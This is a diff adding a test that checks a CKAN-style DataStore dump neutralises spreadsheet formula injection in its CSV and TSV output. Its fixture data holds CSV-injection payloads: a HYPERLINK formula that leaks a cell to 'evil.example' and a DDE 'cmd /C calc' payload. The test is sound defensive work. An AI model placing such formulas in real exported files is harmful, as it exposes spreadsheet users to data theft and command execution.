@@ -173,6 +173,33 @@ def test_formula_cells_are_neutralised_in_the_csv_but_exact_in_the_datastore(har
     assert [r["Jumlah"] for r in published] == ["10", "11", "12", "13"]
 
 
+def test_datastore_dump_neutralises_formula_text_but_keeps_numbers(harvest: Any, server: Any, app: Any) -> None:
+    """Issue 9 item 7: CKAN's own DataStore dump (csv and tsv) of a harvested table gave formula
+    cells unchanged; now text cells get the leading ``'``, numbers (``-5`` in a numeric column)
+    and the DataStore values and the JSON dump stay exact."""
+    notes = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-5", "Aman"]
+    numbers = [-5, 10, 11, 12, 13]
+    body = io.StringIO()
+    csv.writer(body).writerows([["Kecamatan", "Catatan", "Nilai"]] +
+                               [[f"Meuraxa {i}", v, n] for i, (v, n) in enumerate(zip(notes, numbers))])
+    server.put("rumus.csv", body.getvalue().encode("utf-8"))
+    harvest.run(harvest.source([entry(server, "files/rumus.csv", "rumus-2024")]))
+    res = harvest.dataset("rumus-2024")["resources"][0]
+    fields, rows = harvest.records(res["id"])
+    assert [(f["id"], f["type"]) for f in fields] == [("Kecamatan", "text"), ("Catatan", "text"), ("Nilai", "int8")]
+    assert [r["Catatan"] for r in rows] == notes and [r["Nilai"] for r in rows] == numbers
+    neutral = ["'" + v if v[0] in "=+-@" else v for v in notes]
+    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+        resp = app.get(f"/datastore/dump/{res['id']}?format={fmt}")
+        assert resp.status_code == 200
+        dumped = list(csv.reader(io.StringIO(resp.get_data(as_text=True)), delimiter=delimiter))
+        assert dumped[0] == ["_id", "Kecamatan", "Catatan", "Nilai"]
+        assert [r[1:] for r in dumped[1:]] == [[f"Meuraxa {i}", v, str(n)] for i, (v, n) in enumerate(zip(neutral, numbers))]
+    as_json = json.loads(app.get(f"/datastore/dump/{res['id']}?format=json").get_data(as_text=True))
+    assert [r[2] for r in as_json["records"]] == notes and [r[3] for r in as_json["records"]] == numbers
+    assert harvest.records(res["id"])[1] == rows  # the table itself is unchanged
+
+
 class TestGoogleSheets:
     KEY = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"
 
